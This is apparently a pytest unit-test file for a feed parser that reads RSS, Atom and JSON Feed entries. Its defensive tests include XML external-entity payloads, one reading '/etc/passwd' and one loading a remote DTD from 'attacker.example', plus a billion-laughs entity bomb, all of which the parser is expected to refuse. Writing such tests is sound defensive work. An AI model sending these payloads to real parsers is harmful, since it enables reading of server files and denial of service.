"""Parsing fetched feed bytes into entries."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from services.ingest.feeds import FeedParseError, parse_feed
from tests.unit.ingest_fixtures import FEEDS


def read(name: str) -> bytes:
    return (FEEDS / name).read_bytes()


def test_rss2_entries_carry_guid_link_title_text_date_and_author() -> None:
    feed = parse_feed(read("rss2.xml"), url="https://courier.example/feed.xml")
    assert feed.format == "rss20"
    assert feed.title == "Valley Courier — Local News"
    assert feed.warning is None
    first, second, third = feed.entries
    assert first.guid == "courier-2026-0310-flood"
    assert first.title == "Flood barrier opens on the lower valley"
    assert first.author == "Jane Miller"
    assert first.published == datetime(2026, 3, 10, 7, 30, tzinfo=UTC)
    assert first.published.isoformat() == "2026-03-10T08:30:00+01:00"  # the publisher's offset
    assert first.summary == "The new barrier protects about twelve thousand homes."
    assert first.content is not None
    assert first.content.startswith("The river authority opened the new flood barrier")
    assert "\n\nEngineers tested the gates" in first.content  # paragraphs kept apart
    assert "<p>" not in first.content
    assert "alert" not in first.content  # scripts never reach the text
    assert second.title == "Council approves new cycle lanes & bus stops"
    assert second.summary == "The council voted 9–4 for the plan. Read more"
    assert second.content is None
    assert third.link == "https://courier.example/news/market-hall-reopens"  # relative, resolved
    assert third.guid == third.link  # no <guid>: the link identifies the entry
    assert third.published == datetime(2026, 3, 8, 14, 0, tzinfo=UTC)


def test_atom_entries_take_html_titles_as_text_and_content_over_summary() -> None:
    feed = parse_feed(read("atom.xml"), content_type="application/atom+xml")
    assert feed.format == "atom10"
    ferry, wall = feed.entries
    assert ferry.title == "Ferry timetable changes from April"
    assert ferry.guid == "tag:harbour.example,2026:ferry-timetable"
    assert ferry.published == datetime(2026, 3, 11, 7, 15, tzinfo=UTC)
    assert ferry.summary == "Two early sailings are cut."
    assert ferry.author == "Tom Okafor"
    assert wall.summary is None
    assert wall.content is not None
    assert wall.content.count("\n\n") == 2
    assert wall.published == datetime(2026, 3, 10, 16, 45, tzinfo=UTC)  # from <updated>


def test_json_feed_items_are_read_without_feedparser() -> None:
    feed = parse_feed(read("jsonfeed.json"), url="https://hilltown.example/feed.json")
    assert feed.format == "json1.1"
    assert feed.title == "Hill Town Weekly"
    library, choir = feed.entries
    assert library.guid == "hilltown-2026-031"
    assert library.summary == "Planning permission granted for a two-storey reading room."
    assert library.content is None
    assert library.published == datetime(2026, 3, 9, 19, 20, tzinfo=UTC)
    assert library.author == "Priya Shah"
    assert choir.link == "https://hilltown.example/posts/school-choir"
    assert choir.content is not None
    assert choir.content.startswith("The Hill Town primary school choir won first prize")
    assert choir.author == "Priya Shah"  # JSON Feed 1.0 "author" object


def test_json_feed_1_0_with_content_text() -> None:
    body = (
        b'{"version": "https://jsonfeed.org/version/1", "title": "T", "items": ['
        b'{"id": 1, "content_text": "Line one.\\n\\nLine two.",'
        b' "date_modified": "2026-01-02T03:04:05"}'
        b"]}"
    )
    (entry,) = parse_feed(body, content_type="application/feed+json").entries
    assert entry.guid == "1"
    assert entry.content == "Line one.\n\nLine two."
    assert entry.published == datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    assert entry.link is None


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b'{"title": "no version", "items": []}', "no https://jsonfeed.org/version/ marker"),
        (b'{"version": "https://jsonfeed.org/version/1.1", "items": 3}', "'items' is not a list"),
        (b'{"version": ', "not a readable JSON Feed"),
        (b"[" * 100_000 + b"]" * 100_000, "not a readable JSON Feed"),
    ],
)
def test_broken_json_feeds_are_parse_errors(body: bytes, message: str) -> None:
    with pytest.raises(FeedParseError, match=message):
        parse_feed(body, content_type="application/json")


def test_rss_1_0_rdf_and_rss_0_91_with_a_doctype() -> None:
    rdf = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
         xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://rdf.example/"><title>RDF</title><link>https://rdf.example/</link>
    <description>d</description></channel>
  <item rdf:about="https://rdf.example/1"><title>One</title><link>https://rdf.example/1</link>
    <dc:date>2026-02-01T10:00:00Z</dc:date></item>
</rdf:RDF>"""
    rss091 = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title><link>https://old.example/</link>
<description>d</description><language>en</language>
<item><title>Old news</title><link>https://old.example/1</link><description>Hi</description></item>
</channel></rss>"""
    (one,) = parse_feed(rdf).entries
    assert (one.title, one.link) == ("One", "https://rdf.example/1")
    assert one.published == datetime(2026, 2, 1, 10, 0, tzinfo=UTC)
    old = parse_feed(rss091)
    assert old.format == "rss091n"
    assert [entry.title for entry in old.entries] == ["Old news"]


def test_malformed_xml_without_entries_is_a_clear_parse_error() -> None:
    with pytest.raises(FeedParseError, match=r"not a readable RSS, Atom or JSON feed: .*:6:"):
        parse_feed(read("malformed.xml"))


def test_an_html_page_is_not_a_feed() -> None:
    with pytest.raises(FeedParseError, match="not a readable"):
        parse_feed(b"<!DOCTYPE html><html><body><p>Hello</p></body></html>")


def test_a_feed_with_entries_but_broken_xml_keeps_them_with_a_warning() -> None:
    body = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>
<item><title>Kept & fine</title><link>https://x.example/1</link></item>
</channel>"""  # unescaped & and no closing </rss>
    feed = parse_feed(body)
    assert [entry.title for entry in feed.entries] == ["Kept & fine"]
    assert feed.warning is not None
    assert "not well-formed" in feed.warning


def test_the_billion_laughs_bomb_is_refused_before_any_parser_expands_it() -> None:
    with pytest.raises(FeedParseError, match="declares XML entities"):
        parse_feed(read("entity-bomb.xml"))


@pytest.mark.parametrize(
    "declaration",
    [
        b'<!ENTITY xxe SYSTEM "file:///etc/passwd">',
        b'<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;',
        b'<!ENTITY small "ok">',
    ],
)
def test_any_entity_declaration_is_refused(declaration: bytes) -> None:
    body = (
        b'<?xml version="1.0"?><!DOCTYPE rss [' + declaration + b"]>"
        b"<rss version='2.0'><channel><title>&xxe;</title></channel></rss>"
    )
    with pytest.raises(FeedParseError, match="declares XML entities"):
        parse_feed(body)


def test_an_entity_declaration_in_a_broken_prolog_is_refused_too() -> None:
    body = b'<?xml version="1.0"?><!DOCTYPE rss [ <!ENTITY a "b"> <!oops ]><rss></rss>'
    with pytest.raises(FeedParseError, match="declares XML entities"):
        parse_feed(body)


def test_utf16_feeds_are_read_and_their_bombs_refused() -> None:
    feed = read("rss2.xml").decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    assert len(parse_feed(feed.encode("utf-16")).entries) == 3
    bomb = read("entity-bomb.xml").decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    with pytest.raises(FeedParseError, match="declares XML entities"):
        parse_feed(bomb.encode("utf-16"))


def test_a_body_naming_a_local_file_is_not_read_as_that_file() -> None:
    # feedparser opens bare bytes/str as a path; parse_feed must never let that happen.
    with pytest.raises(FeedParseError):
        parse_feed(str(FEEDS / "rss2.xml").encode())


def test_entries_without_id_or_link_get_a_stable_guid() -> None:
    body = b"""<rss version="2.0"><channel><title>T</title>
<item><title>No id</title><description>Body</description></item></channel></rss>"""
    first = parse_feed(body).entries[0].guid
    assert first.startswith("sha256:")
    assert parse_feed(body).entries[0].guid == first


def test_the_body_decides_the_format_over_a_wrong_content_type() -> None:
    as_json = parse_feed(read("rss2.xml"), content_type="application/json")
    assert as_json.format == "rss20"
    as_xml = parse_feed(read("jsonfeed.json"), content_type="application/rss+xml")
    assert as_xml.format == "json1.1"


@pytest.mark.parametrize(
    "body",
    [
        b'<?xml version="1.0" encoding="UTF-8y"?><rss version="2.0"><channel></channel></rss>',
        b'<?xml version="1.0" encoding="utf\xe5-8"?><rss version="2.0"><channel></channel></rss>',
    ],
)
def test_an_unknown_or_undecodable_encoding_is_a_parse_error(body: bytes) -> None:
    with pytest.raises(FeedParseError, match="not a readable"):
        parse_feed(body)


def test_control_characters_in_entry_html_are_dropped() -> None:
    body = b"""<rss version="2.0"><channel><title>T</title><item><title>A</title>
<link>https://x.example/1</link><description>&lt;p&gt;Bell\x07 and\x0b tab&lt;/p&gt;</description>
</item></channel></rss>"""
    (entry,) = parse_feed(body).entries
    assert entry.summary == "Bell and tab"
